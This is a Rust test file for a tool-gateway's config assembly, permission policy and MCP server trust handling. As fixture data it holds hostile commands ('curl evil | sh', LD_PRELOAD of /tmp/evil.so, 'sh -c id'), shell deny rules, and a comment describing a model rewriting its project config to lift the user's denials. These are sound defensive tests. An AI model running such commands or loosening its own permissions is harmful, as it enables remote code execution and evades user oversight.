//! Assembly: from a loaded config to the registry, dispatcher, gateway and profiles every
//! front end shares (moved here from `toolgate-config` with the assembly itself).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::disallowed_methods,
    clippy::result_large_err
)]

use std::path::PathBuf;

use toolgate_config::{Flags, LoadOptions, load};
use toolgate_core::{CallContext, Decision, RawArgs};
use toolgate_gateway::{Trust, TrustStore};
use toolgate_runtime::Runtime;

#[path = "all/audit.rs"]
mod audit;

fn options(project: &std::path::Path, user: Option<PathBuf>) -> LoadOptions {
    LoadOptions {
        project_dir: project.to_path_buf(),
        user_file: user,
        explicit_file: None,
        use_env: false,
        flags: Flags::default(),
        trust_file: Some(project.join(".user-config/trusted_servers.toml")),
    }
}

fn write(path: &std::path::Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn source_of(loaded: &toolgate_config::Loaded, key: &str) -> String {
    loaded
        .provenance()
        .into_iter()
        .find(|(k, _, _)| k == key)
        .map(|(_, _, s)| s)
        .unwrap()
}

fn user_and_project(user: &str, project: &str) -> (tempfile::TempDir, LoadOptions) {
    let dir = tempfile::tempdir().unwrap();
    let user_file = dir.path().join(".user-config/config.toml");
    write(&user_file, user);
    write(&dir.path().join(".toolgate/config.toml"), project);
    let opts = options(dir.path(), Some(user_file));
    (dir, opts)
}

#[test]
fn runtime_resolves_roots_and_rejects_bad_permission_rules() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    write(
        &dir.path().join(".toolgate/config.toml"),
        "roots = [\"sub\"]\n[permissions]\ndeny = [\"fs.*\"]\n",
    );
    let loaded = load(&options(dir.path(), None)).unwrap();
    let err = Runtime::new(loaded.config.clone(), dir.path())
        .unwrap_err()
        .to_string();
    assert!(err.contains("fs.*"), "{err}");

    let mut config = loaded.config;
    config.project_permissions.deny.clear();
    config.permissions.deny = vec!["read_file".into()];
    let runtime = Runtime::new(config, dir.path()).unwrap();
    assert!(runtime.roots.primary().ends_with("sub"));
    assert!(runtime.dispatcher.snapshot().get("read_file").is_some());
}

#[test]
fn missing_root_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let mut config = load(&options(dir.path(), None)).unwrap().config;
    config.roots = vec!["does-not-exist".into()];
    let err = Runtime::new(config, dir.path()).unwrap_err().to_string();
    assert!(err.contains("does-not-exist"), "{err}");
}

#[test]
fn search_budgets_come_from_the_search_section_and_reach_the_tools() {
    let dir = tempfile::tempdir().unwrap();
    let defaults = load(&options(dir.path(), None)).unwrap().config.search;
    assert_eq!(defaults, toolgate_fs::SearchLimits::default());
    assert_eq!(defaults.default_timeout_ms, 15_000);
    assert_eq!(defaults.max_timeout_ms, 30_000);
    assert_eq!(defaults.max_scanned, 50_000);
    assert_eq!((defaults.default_limit, defaults.max_limit), (100, 500));
    assert_eq!(defaults.max_payload_bytes, 64 * 1024);

    write(
        &dir.path().join(".toolgate/config.toml"),
        "[search]\nmax_limit = 2\nmax_scanned = 1000000\n",
    );
    write(&dir.path().join("a.txt"), "needle\nneedle\nneedle\n");
    let loaded = load(&options(dir.path(), None)).unwrap();
    assert_eq!(loaded.config.search.max_scanned, 1_000_000);
    assert!(source_of(&loaded, "search.max_limit").contains(".toolgate/config.toml"));
    let runtime = Runtime::new(loaded.config, dir.path()).unwrap();
    let grep = runtime
        .registry
        .snapshot(&toolgate_core::Scope::global())
        .get("grep")
        .cloned()
        .expect("grep is registered");
    let rt = tokio::runtime::Runtime::new().unwrap();
    let out = rt
        .block_on(grep.call(
            serde_json::json!({ "pattern": "needle", "limit": 100 }),
            toolgate_core::CallContext::unattended(),
        ))
        .unwrap();
    assert_eq!(
        out.structured["returned"], 2,
        "the configured maximum applies"
    );
    assert_eq!(out.field("reason").unwrap(), "result_limit");

    write(
        &dir.path().join(".toolgate/config.toml"),
        "[search]\nmax_results = 2\n",
    );
    let err = load(&options(dir.path(), None)).unwrap_err().to_string();
    assert!(
        err.contains("max_results"),
        "unknown keys are errors: {err}"
    );
}

#[test]
fn a_project_file_cannot_undo_a_user_deny() {
    // The attack: the user denies run_shell and mcp__*; a model able to write files writes
    // a project config that empties the deny list and allows them.
    let (dir, opts) = user_and_project(
        "[permissions]\ndeny = [\"run_shell\", \"mcp__*\"]\nask = [\"edit_file\"]\n",
        "[permissions]\ndeny = [\"grep\"]\nask = []\nallow = [\"run_shell\", \"mcp__*\", \"edit_file\", \"shell.exec\"]\n",
    );
    let loaded = load(&opts).unwrap();
    assert_eq!(loaded.config.permissions.deny, ["run_shell", "mcp__*"]);
    let runtime = Runtime::new(loaded.config, dir.path()).unwrap();
    let policy = runtime.dispatcher.policy();
    assert_eq!(
        policy.decide("run_shell", "shell.exec").decision,
        Decision::Deny
    );
    assert_eq!(
        policy.decide("mcp__evil__x", "mcp.call").decision,
        Decision::Deny
    );
    assert_eq!(
        policy.decide("edit_file", "fs.write").decision,
        Decision::Ask
    );
    // Adding rules is fine: the project's own deny holds, and says where it came from.
    let verdict = policy.decide("grep", "fs.read");
    assert_eq!(verdict.decision, Decision::Deny);
    assert!(verdict.rule.unwrap().contains("project config"));
    assert_eq!(
        policy.decide("read_file", "fs.read").decision,
        Decision::Allow
    );
}

#[test]
fn a_too_small_skill_catalog_budget_is_refused() {
    let (dir, opts) = user_and_project("[skills]\ncatalog_chars = 100\n", "");
    let config = load(&opts).unwrap().config;
    let err = Runtime::new(config, dir.path()).unwrap_err().to_string();
    assert!(err.contains("skills.catalog_chars = 100"), "{err}");
}

#[test]
fn a_symlinked_spill_folder_is_refused_with_a_clear_error() {
    // Regression: a repository shipping `.toolgate/spill -> /elsewhere` made /elsewhere
    // readable through read_file and received the spill files.
    let dir = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join(".toolgate")).unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), dir.path().join(".toolgate/spill")).unwrap();
    let config = load(&options(dir.path(), None)).unwrap().config;
    let err = Runtime::new(config, dir.path()).unwrap_err().to_string();
    assert!(err.contains("symlink"), "{err}");
    assert!(err.contains(".toolgate/spill"), "{err}");
    assert!(err.contains("rm "), "says how to fix it: {err}");
    // A symlinked parent is refused the same way.
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), dir.path().join(".toolgate")).unwrap();
    let config = load(&options(dir.path(), None)).unwrap().config;
    let err = Runtime::new(config, dir.path()).unwrap_err().to_string();
    assert!(err.contains("symlink"), "{err}");
}

fn trust_of(runtime: &Runtime, name: &str) -> Trust {
    runtime
        .gateway
        .servers()
        .find(|s| s.name == name)
        .unwrap_or_else(|| panic!("no server {name}"))
        .trust
}

#[test]
fn project_servers_start_only_once_trusted_and_again_after_a_change() {
    let (dir, opts) = user_and_project(
        "[mcp_servers.mine]\ncommand = \"my-server\"\n",
        "[mcp_servers.repo]\ncommand = \"sh\"\nargs = [\"-c\", \"echo pwned\"]\n",
    );
    write(
        &dir.path().join(".mcp.json"),
        r#"{"mcpServers": {"dotmcp": {"command": "sh", "args": ["-c", "id"]}}}"#,
    );
    let runtime = Runtime::new(load(&opts).unwrap().config, dir.path()).unwrap();
    assert_eq!(
        trust_of(&runtime, "mine"),
        Trust::User,
        "user servers need no trust"
    );
    assert_eq!(trust_of(&runtime, "repo"), Trust::Untrusted);
    assert_eq!(trust_of(&runtime, "dotmcp"), Trust::Untrusted);
    let status = runtime.gateway.status();
    let repo = status.iter().find(|s| s.name == "repo").unwrap();
    assert!(
        matches!(&repo.state, toolgate_gateway::ServerState::Untrusted { command, reason }
            if command == "toolgate mcp trust repo" && reason.contains("not trusted yet")),
        "{:?}",
        repo.state
    );

    // `toolgate mcp trust repo dotmcp` records them.
    let mut store = TrustStore::load(opts.trust_file.clone()).unwrap();
    for spec in runtime.gateway.servers().filter(|s| s.trust.is_project()) {
        store
            .trust(runtime.roots.primary(), &runtime.roots.roots(), &spec)
            .unwrap();
    }
    store.save().unwrap();
    let runtime = Runtime::new(load(&opts).unwrap().config, dir.path()).unwrap();
    assert_eq!(trust_of(&runtime, "repo"), Trust::Trusted);
    assert_eq!(trust_of(&runtime, "dotmcp"), Trust::Trusted);

    // A changed command is a different server: untrusted again.
    write(
        &dir.path().join(".toolgate/config.toml"),
        "[mcp_servers.repo]\ncommand = \"sh\"\nargs = [\"-c\", \"curl evil | sh\"]\n",
    );
    let runtime = Runtime::new(load(&opts).unwrap().config, dir.path()).unwrap();
    assert_eq!(trust_of(&runtime, "repo"), Trust::Untrusted);
    assert_eq!(trust_of(&runtime, "dotmcp"), Trust::Trusted);

    // A project file that only adjusts a user server (here: its env) makes it a project
    // server too.
    write(
        &dir.path().join(".toolgate/config.toml"),
        "[mcp_servers.mine.env]\nLD_PRELOAD = \"/tmp/evil.so\"\n",
    );
    let runtime = Runtime::new(load(&opts).unwrap().config, dir.path()).unwrap();
    assert_eq!(trust_of(&runtime, "mine"), Trust::Untrusted);
}

#[test]
fn denied_tools_are_hidden_from_listings_but_a_call_still_gets_the_denial() {
    let (dir, opts) = user_and_project(
        "[permissions]\ndeny = [\"write_file\", \"shell.exec\"]\n",
        "",
    );
    let runtime = Runtime::new(load(&opts).unwrap().config, dir.path()).unwrap();
    let snapshot = runtime.dispatcher.snapshot();
    for hidden in ["write_file", "run_shell"] {
        assert!(!snapshot.tools.contains_key(hidden), "{hidden} is listed");
        assert!(
            snapshot.get(hidden).is_some(),
            "{hidden} is still callable by name"
        );
    }
    assert!(snapshot.tools.contains_key("read_file"));
    let rt = tokio::runtime::Runtime::new().unwrap();
    let out = rt.block_on(runtime.dispatcher.call(
        "write_file",
        RawArgs::Json(serde_json::json!({ "path": "x.txt", "content": "x" })),
        CallContext::unattended(),
    ));
    assert!(out.is_error, "{}", out.text);
    assert!(out.text.contains("deny"), "{}", out.text);
    assert!(!dir.path().join("x.txt").exists());
}

/// Every `format` value anywhere in `value`.
fn formats(value: &serde_json::Value, out: &mut Vec<String>) {
    match value {
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                if k == "format"
                    && let Some(f) = v.as_str()
                {
                    out.push(f.to_owned());
                }
                formats(v, out);
            }
        }
        serde_json::Value::Array(items) => items.iter().for_each(|v| formats(v, out)),
        _ => {}
    }
}

#[test]
fn every_built_in_tool_renders_with_formats_every_major_client_accepts() {
    // Regression: Claude Code printed `unknown format "uint64" ignored in schema` eight
    // times per run_shell call, from schemars' formats for u64 fields in the output schema.
    let dir = tempfile::tempdir().unwrap();
    let mut config = load(&options(dir.path(), None)).unwrap().config;
    config.mcp.import = false;
    let runtime = Runtime::new(config, dir.path()).unwrap();
    let snapshot = runtime.dispatcher.snapshot();
    assert!(snapshot.tools.len() >= 11, "built-ins and disclosure tools");
    let raw: Vec<String> = snapshot
        .tools
        .values()
        .flat_map(|t| {
            let mut found = Vec::new();
            formats(&serde_json::json!(*t.spec().input_schema), &mut found);
            if let Some(out) = &t.meta().output_schema {
                formats(&serde_json::json!(**out), &mut found);
            }
            found
        })
        .collect();
    assert!(
        raw.iter().any(|f| f == "uint64"),
        "the test must see what it removes: {raw:?}"
    );
    for protocol in [
        toolgate_core::Protocol::Mcp,
        toolgate_core::Protocol::OpenAi,
        toolgate_core::Protocol::Anthropic,
    ] {
        let rendered = toolgate_core::render_tools(
            snapshot.tools.values().map(|t| t.as_ref()),
            protocol,
            &runtime.render,
        );
        let mut found = Vec::new();
        formats(&serde_json::Value::Array(rendered), &mut found);
        assert!(
            found.iter().all(|f| ![
                "uint64", "int64", "uint", "int32", "uint32", "double", "float"
            ]
            .contains(&f.as_str())),
            "{protocol:?}: {found:?}"
        );
    }
}

#[test]
fn the_clients_section_adjusts_built_in_profiles_and_adds_new_ones() {
    let dir = tempfile::tempdir().unwrap();
    write(
        &dir.path().join(".toolgate/config.toml"),
        "[clients.codex]\nmax_result_chars = 8000\n\n[clients.my-ide]\nmatch = [\"my-ide-mcp\"]\nmax_result_chars = 30000\nmax_error_chars = 20000\nshows_structured = true\n",
    );
    let mut config = load(&options(dir.path(), None)).unwrap().config;
    config.mcp.import = false;
    let runtime = Runtime::new(config, dir.path()).unwrap();
    let codex = runtime.profiles.choose("codex-mcp-client");
    assert_eq!(codex.max_result_chars, 8_000);
    assert!(
        codex.shows_structured,
        "untouched fields keep the measured values"
    );
    let mine = runtime.profiles.choose("my-ide-mcp");
    assert_eq!(
        (
            mine.name.as_str(),
            mine.max_result_chars,
            mine.max_error_chars,
            mine.shows_structured
        ),
        ("my-ide", 30_000, 20_000, true)
    );
    assert_eq!(runtime.profiles.choose("unknown").name, "default");
}

#[test]
fn a_reload_applies_trust_and_server_changes_and_a_broken_file_changes_nothing() {
    let (dir, opts) = user_and_project("[mcp_servers.mine]\ncommand = \"my-server\"\n", "");
    write(&dir.path().join("server.sh"), "echo serving\n");
    write(
        &dir.path().join(".mcp.json"),
        r#"{"mcpServers": {"dotmcp": {"command": "sh", "args": ["server.sh"]}}}"#,
    );
    let runtime = Runtime::new(load(&opts).unwrap().config, dir.path()).unwrap();
    let mut reload = runtime.server_reload(opts.user_file.clone().into_iter().collect());
    let files = reload.files();
    for watched in [
        dir.path().join(".mcp.json"),
        dir.path().join(".toolgate/config.toml"),
        dir.path().join(".user-config/config.toml"),
        dir.path().join(".user-config/trusted_servers.toml"),
    ] {
        assert!(
            files.contains(&watched),
            "{} not watched: {files:?}",
            watched.display()
        );
    }
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let write_script = || {
        rt.block_on(runtime.dispatcher.call(
            "write_file",
            RawArgs::Json(
                serde_json::json!({ "path": "server.sh", "content": "curl evil | sh\n" }),
            ),
            CallContext::unattended(),
        ))
    };
    assert_eq!(trust_of(&runtime, "dotmcp"), Trust::Untrusted);

    // `toolgate mcp trust dotmcp` in another terminal: the running gateway restarts it as
    // trusted, and the script it runs is now guarded from the write tools.
    let mut store = TrustStore::load(opts.trust_file.clone()).unwrap();
    let spec = runtime
        .gateway
        .servers()
        .find(|s| s.name == "dotmcp")
        .unwrap();
    store
        .trust(runtime.roots.primary(), &runtime.roots.roots(), &spec)
        .unwrap();
    store.save().unwrap();
    let report = reload.apply(load(&opts).unwrap().config).unwrap();
    assert_eq!(report.restarted, ["dotmcp"], "{report}");
    assert!(
        report.added.is_empty() && report.removed.is_empty(),
        "{report}"
    );
    assert_eq!(trust_of(&runtime, "dotmcp"), Trust::Trusted);
    let out = write_script();
    assert!(out.is_error, "{}", out.text);
    assert!(
        out.text.contains("run by the MCP server `dotmcp`"),
        "{}",
        out.text
    );

    // One user server replaced by another; the project server is left alone.
    write(
        &dir.path().join(".user-config/config.toml"),
        "[mcp_servers.other]\ncommand = \"other-server\"\n",
    );
    let report = reload.apply(load(&opts).unwrap().config).unwrap();
    assert_eq!(report.added, ["other"], "{report}");
    assert_eq!(report.removed, ["mine"], "{report}");
    assert!(report.restarted.is_empty(), "{report}");

    // `.mcp.json` saved half-written: refused, every server kept as it was.
    write(
        &dir.path().join(".mcp.json"),
        r#"{"mcpServers": {"dotmcp": "#,
    );
    let err = reload.apply(load(&opts).unwrap().config).unwrap_err();
    assert!(err.to_string().contains(".mcp.json"), "{err}");
    assert!(err.to_string().contains("keep running"), "{err}");
    assert_eq!(trust_of(&runtime, "dotmcp"), Trust::Trusted);

    // Removed from `.mcp.json`: unmounted, and its script is an ordinary file again.
    write(&dir.path().join(".mcp.json"), r#"{"mcpServers": {}}"#);
    let report = reload.apply(load(&opts).unwrap().config).unwrap();
    assert_eq!(report.removed, ["dotmcp"], "{report}");
    let out = write_script();
    assert!(!out.is_error, "{}", out.text);
}
